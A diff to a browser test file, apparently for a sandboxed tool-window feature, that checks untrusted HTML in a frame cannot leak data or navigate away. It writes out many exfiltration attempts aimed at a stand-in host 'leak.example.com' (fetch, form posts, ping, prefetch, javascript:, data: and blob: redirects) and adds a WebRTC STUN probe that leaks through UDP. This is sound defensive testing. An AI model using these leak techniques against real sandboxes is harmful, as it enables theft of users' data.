@@ -52,7 +52,8 @@ test('html has an opaque origin, and neither the page, the window above it nor a
   expect(await shell.evaluate(() => [opener, document.querySelectorAll('iframe').length, location.origin])).toEqual([null, 1, app]);
 });
 
-test('html reaches no network: no request, no socket, no lookup by navigation, no other window, no download', async ({ host, site }) => {
+for (const [title, allowlist] of [['', '()'], [', also by its policy alone', '']] as const) test(`html reaches no network${title}: no request, no socket, no other window, no download`, async ({ host, site }) => {
+  site.own.set('/popup-frame.html', { 'connection-allowlist': allowlist });
   const canary = await Canary.listen();
   const udp = await listenUDP();
   try {
@@ -85,6 +86,15 @@ test('html reaches no network: no request, no socket, no lookup by navigation, n
   }
 });
 
+/** Asks a STUN server, as every realm can that has WebRTC. */
+function rtc(udp: number): string {
+  return `const rtc = async (RTC) => {
+    const connection = new RTC({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] });
+    connection.createDataChannel("a");
+    await connection.setLocalDescription(await connection.createOffer());
+  };`;
+}
+
 function ways(leak: string, plain: string, udp: number): string {
   return `<!doctype html><head>
     <link rel="prefetch" href="${leak}/prefetch"><link rel="preconnect" href="${leak}"><link rel="modulepreload" href="${leak}/modulepreload">
@@ -94,18 +104,14 @@ function ways(leak: string, plain: string, udp: number): string {
     </head><body>
     <img src="${leak}/img"><img src="relative"><script src="${leak}/script"></script><iframe src="${leak}/iframe"></iframe><iframe src="/popup-frame.html?stolen"></iframe>
     <object data="${leak}/object"></object><embed src="${leak}/embed"><video src="${leak}/video" poster="${leak}/poster"></video><svg><image href="${leak}/svg"/></svg>
-    <iframe srcdoc='<script>fetch("${leak}/srcdoc", { mode: "no-cors" }); try { rtc(RTCPeerConnection) } catch {} </script>'></iframe>
+    <iframe srcdoc='<script>fetch("${leak}/srcdoc", { mode: "no-cors" }).catch(() => {})</script>'></iframe>
     <a id="top" href="${leak}/top" target="_top">a</a> <a id="blank" href="${leak}/blank" target="_blank">b</a> 
     <a id="ping" href="#x" ping="${leak}/ping">d</a> <a id="save" href="data:text/plain,stolen" download="a.txt">e</a>
     <form id="f" action="${leak}/form" method="post"><input name="a" value="stolen"><button id="send">send</button></form>
     <script>
       const no = () => {};
-      const rtc = async (RTC) => {
-        const connection = new RTC({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] });
-        connection.createDataChannel('a');
-        await connection.setLocalDescription(await connection.createOffer());
-      };
-      document.getElementById('f').addEventListener('submit', () => parent.postMessage('submitted', '*'));
+      ${rtc(udp)}
+      document.getElementById('f').addEventListener('submit', (event) => event.preventDefault() || parent.postMessage('submitted', '*'));
       const tries = [
         () => fetch('${leak}/fetch', { mode: 'no-cors' }),
         () => fetch('/?stolen'),
@@ -147,6 +153,26 @@ async function listenUDP(): Promise<{ port: number; heard(): number; close(): vo
   return { port: (socket.address() as AddressInfo).port, heard: () => heard, close: () => socket.close() };
 }
 
+test('WebRTC in a frame within html sends nothing, and what it does to its own process harms nobody', async ({ host, site }) => {
+  const udp = await listenUDP();
+  try {
+    const attack = `<iframe srcdoc='<script>${rtc(udp.port)} rtc(RTCPeerConnection)</script>'></iframe>`;
+    const { at, shell } = await opened(host, html(attack));
+    await host.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1500)));
+    expect(udp.heard()).toBe(0);
+    expect(shell.isClosed()).toBe(false);
+    expect((await host.evaluate(() => harness.run('() => 1'))).outcome).toBe('ok');
+    await host.evaluate((at) => attempts[at]!.finish(), at);
+    // Positive control: the header is what holds it.
+    site.own.set('/popup-frame.html', { 'connection-allowlist': '' });
+    const { at: free } = await opened(host, html(attack));
+    await expect.poll(() => udp.heard(), { timeout: 10_000 }).toBeGreaterThan(0);
+    await host.evaluate((at) => attempts[at]!.finish(), free);
+  } finally {
+    udp.close();
+  }
+});
+
 test('html that leads its own frame away is gone, and nobody was asked', async ({ host, site }) => {
   await host.evaluate(() => (answering = 'session'));
   const leak = 'https://leak.example.com';
@@ -157,6 +183,8 @@ test('html that leads its own frame away is gone, and nobody was asked', async (
     `location.href = 'javascript:location.href="${leak}/javascript"'`,
     `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=${leak}/refresh">'`,
     `document.body.innerHTML = '<a href="${leak}/link">a</a>'; document.querySelector('a').click()`,
+    `document.body.innerHTML = '<form method="post" action="${leak}/post"><input name="a"></form>'; document.forms[0].requestSubmit()`,
+    `document.body.innerHTML = '<form action="/?stolen"><input name="a"></form>'; document.forms[0].requestSubmit()`,
     `document.body.innerHTML = '<form action="${leak}/form"><input name="a"></form>'; document.forms[0].submit()`,
     `location.href = URL.createObjectURL(new Blob(['<script>location.href = "${leak}/blob"</' + 'script>'], { type: 'text/html' }))`,
     `location.href = 'data:text/html,<script>location.href="${leak}/data"</' + 'script>'`,
@@ -204,7 +232,7 @@ test('html neither covers nor changes the banner, whatever it draws, opens on to
     'taskyon-popup-frame',
   ]);
   const name = await wild.shell.locator('header strong').innerText();
-  expect(name).toBe(await host.evaluate(() => questions[1]!.tool));
+  expect(name).toBe(await host.evaluate(() => prompted[1]!.tool));
   expect(await wild.shell.title()).toBe(`Tool window: ${name}`);
   const after = await look(wild.shell);
   expect(after.box).toEqual(before.box);
